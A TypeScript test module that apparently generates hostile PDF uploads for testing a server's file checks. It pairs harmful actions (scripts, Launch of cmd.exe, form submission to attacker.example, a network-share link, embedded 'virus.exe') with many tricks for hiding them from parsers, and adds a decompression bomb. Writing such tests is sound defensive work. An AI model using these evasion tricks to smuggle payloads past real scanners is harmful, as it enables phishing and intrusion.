import { readFileSync } from 'node:fs'
import * as sample from '../../server/src/testing/requests/uploads.ts'
import type { Random } from '../random.ts'
import type { HostileKind } from './kinds.ts'
import { deflated, numbersOf, stream, updatePdf, writePdf } from './pdfWriter.ts'

/** A dictionary with harmful content, for example an action. */
interface Payload {
  name: string
  entries: string
  /** An entry that makes a dictionary harmful, and a harmless entry with the same key. */
  sameKey: readonly [harmful: string, harmless: string]
}

const action = (type: string, rest = ''): Payload => ({
  name: `the action ${type}`,
  entries: `/S /${type} ${rest}`,
  sameKey: [`/S /${type}`, '/S /GoTo'],
})

const payloads: readonly Payload[] = [
  action('JavaScript', '/JS (app.alert\\(1\\))'),
  action('Launch', '/F (cmd.exe)'),
  action('GoToR', '/F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit]'),
  action('GoToE', '/T << /R /C /N (x) >>'),
  action('SubmitForm', '/F (https://attacker.example)'),
  action('ImportData', '/F (data.fdf)'),
  action('Hide', '/T (field) /H true'),
  action('SetOCGState', '/State [/OFF 3 0 R]'),
  action('Thread', '/D 0'),
  action('Sound', '/Sound 3 0 R'),
  action('Movie', '/T (x)'),
  action('Rendition', '/OP 0'),
  action('GoTo3DView', '/V /F'),
  action('RichMediaExecute', '/CMD << /C (x) >>'),
  {
    name: 'a page that opens a web page',
    entries: '/Type /Page /AA << /O << /S /URI /URI (https://attacker.example) >> >>',
    sameKey: ['/AA << /O << /S /URI /URI (https://attacker.example) >> >>', '/AA null'],
  },
  {
    name: 'a dynamic form',
    entries: '/Fields [] /XFA [(template) 3 0 R]',
    sameKey: ['/XFA [(template) 3 0 R]', '/XFA null'],
  },
  {
    name: 'an embedded file',
    entries: '/Type /Filespec /F (virus.exe) /EF << /F 3 0 R >>',
    sameKey: ['/Type /Filespec', '/Type /Catalog'],
  },
  {
    name: 'the names of embedded files',
    entries: '/EmbeddedFiles << /Names [(x) 3 0 R] >>',
    sameKey: ['/EmbeddedFiles 3 0 R', '/EmbeddedFiles null'],
  },
  {
    name: 'the names of scripts',
    entries: '/JavaScript << /Names [(x) 3 0 R] >>',
    sameKey: ['/JavaScript 3 0 R', '/JavaScript null'],
  },
  {
    name: 'an annotation with media',
    entries: '/Type /Annot /Subtype /RichMedia /RichMediaContent 3 0 R',
    sameKey: ['/Subtype /RichMedia', '/Subtype /Link'],
  },
  {
    name: 'an annotation with a file',
    entries: '/Type /Annot /Subtype /FileAttachment /FS 3 0 R',
    sameKey: ['/Subtype /FileAttachment', '/Subtype /Link'],
  },
  {
    name: 'a link to a network share',
    entries: '/S /URI /URI (file://198.51.100.7/share)',
    sameKey: ['/S /Launch', '/S /URI'],
  },
]

type Hide = (payload: Payload, random: Random) => Buffer | Promise<Buffer>

const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
const rawOf = (...objects: readonly (string | Buffer)[]) => sample.rawPdf([catalog, sample.minimalPages, ...objects])

/** Replaces random characters of names by their codes. A viewer reads the same names. */
const escapeNames = (text: string, random: Random) =>
  text.replaceAll(/\/[A-Za-z0-9]+/g, (name) => {
    const forced = 1 + random.below(name.length - 1)
    return [...name]
      .map((letter, index) => {
        const isEscaped = index === forced || (index > 0 && random.chance(0.4))
        return isEscaped ? `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}` : letter
      })
      .join('')
  })

/** Separates the words in ways that the grammar of PDF allows. */
const separateOddly = (text: string, random: Random) =>
  text
    .replaceAll(/ (?=\/)/g, () => random.pick(['\t', '\r', '\n', '\0', '\f', ' % note\n', '  ']))
    .replaceAll(/(?<=\/\w+) (?=\/)/g, '')

/**
 * Adds a text after each name. PDFium treats the bytes 0x80 and 0xFF as blanks, so it still reads the harmful names; other
 * programs read longer names that mean nothing.
 */
const afterEachName = (text: string, end: string) => text.replaceAll(/\/[A-Za-z0-9]+/g, (name) => name + end)

/** Returns a document with an additional object. The text `object` includes the header of the object. */
const withObject = (object: string) => rawOf(Buffer.from(`null\nendobj\n${object}`, 'latin1'))

/** Headers of object 4 that only some viewers read. */
const oddHeaders = [
  '4 0- obj',
  '4 0. obj',
  '4 0+ obj',
  '4 - obj',
  '4 0e0 obj',
  '4 0 obj\x80',
  '4\xff0 obj',
  '4 0\x80obj',
]

const producers = new URL('../../server/src/testing/requests/producers/', import.meta.url)
const readProducer = (random: Random) =>
  readFileSync(new URL(random.pick(['cairo.pdf', 'ghostscript.pdf', 'img2pdf.pdf', 'libreoffice.pdf']), producers))

const dictionary = ({ entries }: Payload) => `<< ${entries} >>`

/** The places where a careless check does not find a dictionary, each with a function that puts the dictionary there. */
const hidingPlaces: readonly (readonly [where: string, hide: Hide])[] = [
  ['in an object', (payload) => rawOf(dictionary(payload))],
  ['in an object stream', (payload) => rawOf(sample.objectStream(9, [dictionary(payload)]))],
  [
    'among many objects of a stream',
    (payload, random) => {
      const objects = Array.from({ length: 20 + random.below(50) }, (_, index) => `<< /K ${index} >>`)
      objects.splice(random.below(objects.length), 0, dictionary(payload))
      return rawOf(sample.objectStream(20, objects))
    },
  ],
  ['under escaped names', (payload, random) => rawOf(escapeNames(dictionary(payload), random))],
  ['with odd separators', (payload, random) => rawOf(separateOddly(dictionary(payload), random))],
  [
    'under names that some viewers end earlier',
    (payload, random) =>
      withObject(
        `4 0 obj ${afterEachName(dictionary(payload), random.pick(['\x80', '\xff', '\x80%\n', '#00', '#0']))}`,
      ),
  ],
  [
    'in an object whose header only some viewers read',
    (payload, random) => withObject(`${random.pick(oddHeaders)}${dictionary(payload)}`),
  ],
  [
    'in an object stream that only some viewers find',
    (payload, random) => {
      const text = sample.objectStream(9, [dictionary(payload)]).toString('latin1')
      const [entries = '', data = ''] = text.split('stream\n', 2)
      const byte = random.pick(['\x80', '\xff'])
      const visible = random.chance(0.5) ? afterEachName(entries, byte) : entries
      return withObject(`4 0 obj ${visible}${byte}stream\n${data}`)
    },
  ],
  ['in a comment', (payload) => rawOf(`0 % 9 0 obj ${dictionary(payload)} endobj`)],
  ['in a string', (payload) => rawOf(`(9 0 obj ${dictionary(payload)} endobj)`)],
  ['in the content of a page', (payload) => rawOf(stream('', Buffer.from(`9 0 obj ${dictionary(payload)} endobj`)))],
  [
    'in a stream with an indirect type',
    (payload) => rawOf(sample.objectStream(9, [dictionary(payload)], '4 0 R'), '/ObjStm'),
  ],
  [
    'in an object that a later one replaces',
    (payload) => updatePdf(rawOf(dictionary(payload)), [{ number: 3, content: '<< >>' }]),
  ],
  [
    'in an update that replaces a harmless object',
    (payload) => updatePdf(rawOf('<< >>'), [{ number: 3, content: dictionary(payload) }]),
  ],
  ['before a harmless entry', ({ sameKey: [harmful, harmless] }) => rawOf(`<< ${harmful} ${harmless} >>`)],
  ['after a harmless entry', ({ sameKey: [harmful, harmless] }) => rawOf(`<< ${harmless} ${harmful} >>`)],
  [
    'after a harmless entry, under an escaped name',
    ({ sameKey: [harmful, harmless] }, random) => rawOf(`<< ${harmless} ${escapeNames(harmful, random)} >>`),
  ],
  [
    'in an update of a real document',
    (payload, random) => {
      const file = readProducer(random)
      return updatePdf(file, [{ number: numbersOf(file).free, content: dictionary(payload) }])
    },
  ],
  [
    'in nested values',
    (payload, random) => {
      const depth = 3 + random.below(60)
      return rawOf(`${'[ << /A '.repeat(depth)}${dictionary(payload)}${' >> ]'.repeat(depth)}`)
    },
  ],
  [
    'under a second document',
    (payload) => {
      const text = rawOf(dictionary(payload), '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>')
      return Buffer.concat([text, Buffer.from('trailer\n<< /Root 4 0 R /Size 5 >>\nstartxref\n0\n%%EOF\n')])
    },
  ],
  [
    'in the trailer',
    (payload) =>
      writePdf(
        [
          { number: 1, content: catalog },
          { number: 2, content: sample.minimalPages },
        ],
        {
          extraTrailerEntries: `/Extra ${dictionary(payload)}`,
        },
      ),
  ],
  [
    'in a document of a word processor',
    (payload) =>
      sample
        .pdf((document) => {
          const text = dictionary(payload)
          document.context.assign(document.context.nextRef(), document.context.obj({ Note: 1 }))
          document.setSubject('Brief')
          document.context.register(document.context.stream(text, { Type: 'Note' }))
        })
        .then((file) => updatePdf(file, [{ number: numbersOf(file).free, content: dictionary(payload) }])),
  ],
]

const combinations: readonly HostileKind[] = payloads.flatMap((payload, first) =>
  hidingPlaces.flatMap(([where, hide], second) =>
    // Uses every payload and every place several times, but only a fifth of the combinations.
    (first + second * 2) % 5 === 0
      ? [
          {
            name: `a PDF with ${payload.name} ${where}`,
            make: async (random: Random) => ({ fileName: 'Rechnung.pdf', content: await hide(payload, random) }),
          },
        ]
      : [],
  ),
)

const pdfFile = (name: string, make: (random: Random) => Buffer | Promise<Buffer>): HostileKind => ({
  name,
  make: async (random) => ({ fileName: 'Brief.pdf', content: await make(random) }),
})

const others: readonly HostileKind[] = [
  pdfFile('an encrypted PDF', (random) =>
    sample.pdf((document) => document.encrypt({ userPassword: random.pick(['', 'x']), ownerPassword: 'secret' })),
  ),
  pdfFile('a PDF with an attached program', (random) =>
    sample.pdf((document) => document.attach(random.bytes(200), 'virus.exe')),
  ),
  pdfFile('a PDF with a script of the document', (random) =>
    sample.pdf((document) => document.addJavaScript('start', 'app.alert(1)'), { useObjectStreams: random.chance(0.5) }),
  ),
  pdfFile('a PDF that opens a web page', () => sample.pdfWith('/OpenAction << /S /URI /URI (https://a.example) >>')),
  pdfFile('a truncated PDF', async (random) => {
    const file = await sample.pdf()
    return file.subarray(0, 20 + random.below(file.length - 40))
  }),
  pdfFile('a PDF with a web page after its end', async () =>
    Buffer.concat([await sample.pdf(), Buffer.from('<html><script>alert(1)</script>')]),
  ),
  pdfFile('a PDF that is also an archive', async () => Buffer.concat([await sample.pdf(), sample.archive])),
  pdfFile('a PDF after a program', async () => Buffer.concat([Buffer.from('MZ\x90\0'), await sample.pdf()])),
  pdfFile('an object stream that expands to half a gigabyte', () =>
    rawOf(sample.objectStream(4, [' '.repeat(2 ** 29 - 64)])),
  ),
  pdfFile('an object stream without a filter', () => rawOf(stream('/Type /ObjStm /N 0 /First 0', Buffer.from(' ')))),
  pdfFile('an object stream with data after its end', (random) =>
    rawOf(
      Buffer.concat([
        deflated('/Type /ObjStm /N 1 /First 4', '9 0 << >>').subarray(0, -'\nendstream'.length),
        random.bytes(20),
        Buffer.from('\nendstream'),
      ]),
    ),
  ),
]

export const hostilePdfs: readonly HostileKind[] = [...others, ...combinations]
